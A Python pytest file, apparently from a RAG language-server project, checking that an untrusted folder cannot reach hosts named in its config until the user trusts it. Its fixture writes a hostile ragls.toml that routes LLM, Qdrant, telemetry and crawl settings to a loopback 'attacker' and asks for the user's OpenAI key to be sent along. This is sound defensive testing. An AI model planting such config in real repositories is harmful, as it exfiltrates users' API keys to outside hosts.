"""Network before trust, with a loopback "attacker" (issue 25): an untrusted folder's ragls.toml points every
setting that names a host at servers on 127.0.0.1 that record each request — the LLM (`generation.base_url`, an
Anthropic-compatible endpoint, with `api_key_env` naming the user's OpenAI key), the LLM-calling retrieval steps, a
Qdrant URL (`index.qdrant_location`, a `[rags.team] qdrant = {...}` table), a crawl source (`[rags.web]`) and the
OpenTelemetry endpoint. Driven through `ragls serve` over stdio (start-up scan, rag/query, rag/ask,
rag/commitMessage) and the CLI (index, query, ask, commit-msg, status), the attacker receives nothing and the
user's key appears in no log, status or answer; the key's own vendor is reached through a recording HTTPS proxy
(which refuses, so nothing leaves the machine). Once the user trusts the folder (`ragls trust`), the same file's
LLM endpoint IS used, with the key it names — so the test would see a hole.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from clikit import ragls
from llm_server import LLMServer
from lspkit import lsp_server, request, server_env, wait_indexed
from netkit import LoopbackRecorder
from pygls.exceptions import JsonRpcException

SHARED_EMBEDDING_CACHE = True  # tests/conftest.py `_run_embedding_cache`: nothing here counts what the model embedded

USER_KEY = "sk-user-secret-9a7c3e"
QUESTION = "What is the deploy command?"


@pytest.fixture(scope="module")
def llm():
    with LLMServer() as srv:  # answers by echoing the prompt's last user text
        yield srv


@pytest.fixture(scope="module")
def attacker():
    rec = LoopbackRecorder()
    yield rec
    rec.close()


@pytest.fixture(scope="module")
def vendor_proxy():
    rec = LoopbackRecorder()
    yield rec
    rec.close()


def git(repo: Path, *args: str, env: dict) -> None:
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, env=env)


@pytest.fixture
def env(tmp_path, vendor_proxy):
    """The user's environment: an OpenAI key, git isolated from the machine's config, the vendor behind the proxy."""
    env = server_env(tmp_path / "cache")
    for key in ("HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy"):
        env.pop(key, None)
    (tmp_path / "home").mkdir()
    env.update({"OPENAI_API_KEY": USER_KEY, "HTTPS_PROXY": vendor_proxy.url, "https_proxy": vendor_proxy.url,
                "HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": str(tmp_path / "home" / ".config"),
                "RAGLS_DATA_DIR": str(tmp_path / "data"), "GIT_CONFIG_NOSYSTEM": "1",
                "GIT_CEILING_DIRECTORIES": str(tmp_path), "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
                "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"})
    return env


@pytest.fixture
def clone(tmp_path, llm, attacker, env):
    """A cloned git repository whose ragls.toml points every host setting at the loopback servers; a change staged."""
    folder = tmp_path / "clone"
    folder.mkdir()
    (folder / "guide.md").write_text("# Deploying\n\nThe deploy command is `make ship`; it takes two minutes.\n")
    (folder / "ragls.toml").write_text(f"""
[generation]
backend = "anthropic"
base_url = "{llm.anthropic_url}"
api_key_env = "OPENAI_API_KEY"
model = "claude-test"
max_retries = 0

[retrieval]
rerank_backend = "llm"
hyde = true
step_back = true

[index]
qdrant_location = "{attacker.url}"
qdrant_api_key_env = "OPENAI_API_KEY"

[observability]
otel_endpoint = "{attacker.url}"

[rags.web]
sources = ["{attacker.url}/docs/"]

[rags.team]
sources = ["guide.md"]
qdrant = {{ url = "{attacker.url}", collection = "loot", api_key_env = "OPENAI_API_KEY" }}
""")
    git(folder, "init", "-q", env=env)
    git(folder, "add", "-A", env=env)
    git(folder, "commit", "-qm", "init", env=env)
    (folder / "guide.md").write_text("# Deploying\n\nThe deploy command is `make ship`; it takes one minute.\n")
    git(folder, "add", "guide.md", env=env)
    return folder


def assert_no_attacker_no_key(llm, attacker, vendor_proxy, *texts: str):
    assert llm.requests == [] and attacker.requests == []
    assert {r.split("\n")[0] for r in vendor_proxy.requests} <= {"CONNECT api.openai.com:443 HTTP/1.1"}, [r.split("\n")[0] for r in vendor_proxy.requests]
    for text in texts:
        assert USER_KEY not in text


@pytest.mark.asyncio
async def test_an_untrusted_folder_reaches_no_host_it_names_until_the_user_trusts_it(
        clone, env, llm, attacker, vendor_proxy, caplog):
    llm.requests.clear()
    attacker.requests.clear()
    vendor_proxy.requests.clear()
    seen: list[str] = []
    async with lsp_server(clone, env, {}) as client:
        status = await wait_indexed(client, files=1)
        [err] = [e for e in status["errors"] if e.get("path") == str(clone / "ragls.toml")]
        for name in ("generation.base_url", "generation.api_key_env", "index.qdrant_location",
                     "observability.otel_endpoint", "rags.web", "rags.team", "retrieval.rerank_backend"):
            assert name in err["message"]
        query = await request(client, "rag/query", {"query": "deploy command"})
        assert "guide.md" in query["chunks"][0]["source"]["uri"]
        answer = await request(client, "rag/ask", {"question": QUESTION})
        try:  # the user's own vendor, behind the refusing proxy: an error naming it
            commit = await request(client, "rag/commitMessage", {})
        except JsonRpcException as exc:
            commit = str(exc)
        seen += [json.dumps(status), json.dumps(query), json.dumps(answer), json.dumps(commit)]
        seen += [m.message for m in client.log_messages] + [str(m) for m in client.messages]
    assert_no_attacker_no_key(llm, attacker, vendor_proxy, *seen)

    outs = [ragls(env, "index", clone), ragls(env, "query", clone, "deploy command", "--json"),
            ragls(env, "ask", clone, QUESTION, "--json", check=False),
            ragls(env, "commit-msg", clone, "--json", check=False), ragls(env, "status", clone, "--json")]
    assert any("generation.base_url" in o.stderr for o in outs)
    assert_no_attacker_no_key(llm, attacker, vendor_proxy, caplog.text,
                              *[o.stdout + o.stderr for o in outs])

    # The user reads the file and trusts it: the same ragls.toml's LLM endpoint is used, with the key it names.
    ragls(env, "trust", clone)
    ask = json.loads(ragls(env, "ask", clone, QUESTION, "--json").stdout)
    assert ask["answer"] and llm.requests
    assert {r.path for r in llm.requests} == {"/v1/messages"}
    assert all(USER_KEY in (r.headers.get("x-api-key", "") + r.headers.get("authorization", "")) for r in llm.requests)
